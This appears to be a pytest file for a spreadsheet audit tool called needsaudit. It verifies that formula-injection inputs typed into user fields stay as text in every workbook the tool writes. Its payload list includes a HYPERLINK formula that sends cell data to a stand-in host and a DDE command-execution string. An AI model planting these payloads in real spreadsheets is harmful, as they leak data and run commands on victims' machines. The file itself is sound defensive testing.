"""Text stays text wherever needsaudit writes.

Formula and link payloads (``=``, ``+``, ``-``, ``@``, ``http://`` and a DDE call) go in
through everything a user controls: the audit name and local authority, case refs, auditors'
names and agencies in the sample, every answer of a return, file names, group labels and
descriptions typed at the meeting. Every workbook the tool then writes (setup, forms, shuffle,
both summaries, and the coordinator workbook through the xlwings stand-in, which enters
strings as Excel does) is read back: no cell that holds a payload is a formula, and no
hyperlink points anywhere a payload says.
"""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from needsaudit import xl
from needsaudit.audit import Settings, init_audit, read_setup
from needsaudit.coordinator import build_coordinator
from needsaudit.forms import make_forms
from needsaudit.names import NA_C_FOLDER
from needsaudit.shuffle import merge
from needsaudit.summary import summarise

from . import builders as b
from . import xlwings_standin as standin
from .conftest import write_csv
from .shuffle_helpers import decide, define_groups

MARK = "qzinj"
PAYLOADS = [
    '=HYPERLINK("http://qzinj.example/?"&A1,"Open")',
    "+QZINJ+1",
    "-QZINJ-1",
    "@SUM(QZINJ)",
    "http://qzinj.example/x",
    "=cmd|' /C calc QZINJ'!A0",
]


def formulas_and_links(path: Path) -> list[str]:
    """Cells holding a payload that are formulas, and links a payload made."""
    bad = []
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                text = str(value if value is not None else "")
                if MARK in text.casefold() and cell.data_type == "f":
                    bad.append(f"{path.name} {ws.title}!{cell.coordinate}: {text[:40]}")
                if cell.hyperlink is not None and MARK in str(cell.hyperlink.target).casefold():
                    bad.append(f"{path.name} {ws.title}!{cell.coordinate}: link")
    return bad


def payload_cells(path: Path) -> int:
    wb = openpyxl.load_workbook(path)
    return sum(
        1
        for ws in wb.worksheets
        for row in ws.iter_rows(values_only=True)
        for v in row
        if isinstance(v, str) and MARK in v.casefold()
    )


def test_no_payload_becomes_a_formula_or_a_link(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "audit"
    people = ["=QZINJ auditor", "+QZINJ", "Sam"]
    refs = ["=QZINJ1", "-QZINJ2", "@QZINJ3", "C4", "C5", "C6"]
    rows = "Case ref,Auditor,Agency\n" + "".join(
        f'"{ref}","{people[i % 3]}","{PAYLOADS[i % len(PAYLOADS)].replace(chr(34), chr(34) * 2)}"\n'
        for i, ref in enumerate(refs)
    )
    init_audit(
        folder,
        write_csv(tmp_path / "sample.csv", rows),
        settings=Settings(audit_name=PAYLOADS[0], local_authority=PAYLOADS[4], small_numbers=2),
    )
    make_forms(folder)
    setup = read_setup(folder)
    assert [c.ref for c in setup.cases][:3] == refs[:3]  # they passed init as typed
    for i, ref in enumerate(refs):
        p = PAYLOADS[i % len(PAYLOADS)]
        fields: dict[str, Any] = {"NA_Story": p, "NA_Notes": p, "NA_Sex": p}
        need = list(b.NEEDS[0])
        need[2], need[3], need[5], need[6] = p, p, p, p
        b.write(
            folder,
            f"{PAYLOADS[i % 4][:6].replace('/', '')}-{i}.xlsx",
            b.make_return(setup, ref, fields=fields, needs=[need, b.NEEDS[1]]),
        )
    merge(folder, workers=1)
    shuffle = folder / "shuffle.xlsx"
    # The group types text (openpyxl, like Excel, would make "=..." a formula of its own).
    define_groups(shuffle, [("+QZINJ group", "-QZINJ"), ("@QZINJ", PAYLOADS[4])])
    decide(shuffle, {ref: {"Agreed group": "+QZINJ group"} for ref in refs[:4]})
    merge(folder, workers=1)
    summarise(folder)

    monkeypatch.setitem(sys.modules, "xlwings", standin)
    monkeypatch.setattr(xl, "reveal", lambda path: None)
    xlsm, _ = build_coordinator(tmp_path / "office")
    app = standin.App()
    book = app.books.open(xlsm)
    book.set_mock_caller()
    try:
        book.names[NA_C_FOLDER].refers_to_range.value = str(folder)
        xl.status()
        xl.check()
        book.save()
    finally:
        standin.Book._mock_caller = None

    written = [
        folder / "setup.xlsx",
        *sorted((folder / "forms").rglob("*.xlsx")),
        shuffle,
        folder / "summary.xlsx",
        folder / "summary-public.xlsx",
        xlsm,
    ]
    bad = [line for path in written for line in formulas_and_links(path)]
    assert bad == []
    # The payloads are there, as text, in every kind of workbook (so the check had work).
    for path in (folder / "setup.xlsx", shuffle, folder / "summary.xlsx", xlsm):
        assert payload_cells(path) > 0, path.name
    assert payload_cells(next((folder / "forms").rglob("*.xlsx"))) > 0


def test_the_standin_enters_strings_as_excel_does(tmp_path: Path) -> None:
    """Without the apostrophe, the stand-in makes a formula, as Excel would: so the test above
    would see one if xl wrote a payload as it is."""
    book = standin.App().books.open(build_coordinator(tmp_path)[0])
    cell = book.sheets[0].range("Z1")
    cell.value = "=1+1"
    assert book.wb.worksheets[0]["Z1"].data_type == "f"
    cell.value = xl.as_text("=1+1")
    assert book.wb.worksheets[0]["Z1"].value == "=1+1"
    assert book.wb.worksheets[0]["Z1"].data_type == "s"
    cell.value = "@SUM(A1)"
    assert book.wb.worksheets[0]["Z1"].data_type == "f"
    standin.Book._mock_caller = None
